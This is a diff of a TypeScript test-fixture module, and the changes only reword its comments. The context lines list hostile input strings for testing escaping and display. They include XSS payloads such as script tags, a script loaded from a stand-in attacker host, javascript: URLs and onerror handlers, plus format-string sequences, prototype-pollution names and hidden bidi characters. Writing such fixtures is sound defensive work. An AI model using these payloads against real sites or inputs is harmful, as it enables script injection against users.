@@ -1,6 +1,6 @@
-// Texts of somebody who wants more than to be read: what browsers, templates, terminals and programs might take for something else.
+// Hostile texts, which browsers, templates, terminals or programs might take for code or commands.
 
-/** Each would show itself: by a dialog, by an element of a name that the page never uses, or by a request. */
+/** Markup. A success would show itself by a dialog, by an element that the page never uses, or by a request. */
 export const markup: readonly string[] = [
   `<script>alert('script')</script>`,
   `<ScRiPt src="http://attacker.example/x.js"></sCrIpT>`,
@@ -29,7 +29,7 @@ export const markup: readonly string[] = [
   `<<x-hostile>>< x-hostile></x-hostile`,
 ]
 
-/** What other programs would run, fill in, or follow. */
+/** Texts that other programs would run, fill in, or follow. */
 export const programs: readonly string[] = [
   `javascript:alert('address')`,
   `JaVaScRiPt\t:alert('tab')//`,
@@ -46,13 +46,13 @@ export const programs: readonly string[] = [
   `%s%s%n%x \\n\\r\\0`,
 ]
 
-/** Words that mean something to a program. */
+/** Names with a meaning for programs. */
 export const names: readonly string[] = [
   ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'then', 'toJSON', 'length', '__html'],
   ...['null', 'undefined', 'NaN', 'true', 'false', '[object Object]', '-0', '1e999', '0x10', 'None', 'nil', '{}', '[]'],
 ]
 
-/** What nobody sees, turns text around, or moves what stands beside it. */
+/** Texts with hidden characters, with changes of direction, and with characters that move their neighbours. */
 export const unseen: readonly string[] = [
   'pay \u202e0001\u202c euros',
   'isolated \u2066\u2067left\u2069\u2069 and marks \u200e\u200f\u061c',
@@ -65,7 +65,7 @@ export const unseen: readonly string[] = [
   'private \ue000 none \uffff own \u{10ffff}',
 ]
 
-/** What is only hard to lay out or to read. */
+/** Texts that are hard to lay out or to read. */
 export const odd: readonly string[] = [
   'w'.repeat(600),
   `https://long.example/${'segment/'.repeat(60)}`,
@@ -79,11 +79,11 @@ export const odd: readonly string[] = [
 
 export const all: readonly string[] = [...markup, ...programs, ...names, ...unseen, ...odd]
 
-/** A text for a field without characters that nobody sees, which the name of a caller may not have. */
+/** A text for a field without hidden characters, which the name of a caller may not have. */
 export const hostileName = (field: string): string => `${field} <x-hostile onclick=alert('${field}')><img src=x onerror=alert(1)>`
 
-/** A text for a field, by which it is found again. */
+/** A text for a field. The text names the field. */
 export const hostile = (field: string): string => `${hostileName(field)}\u202e\u200b`
 
-/** As `hostile` has to look. */
+/** The visible form of `hostile`. */
 export const seen = (field: string): string => `${hostileName(field)}⟨U+202E⟩⟨U+200B⟩`
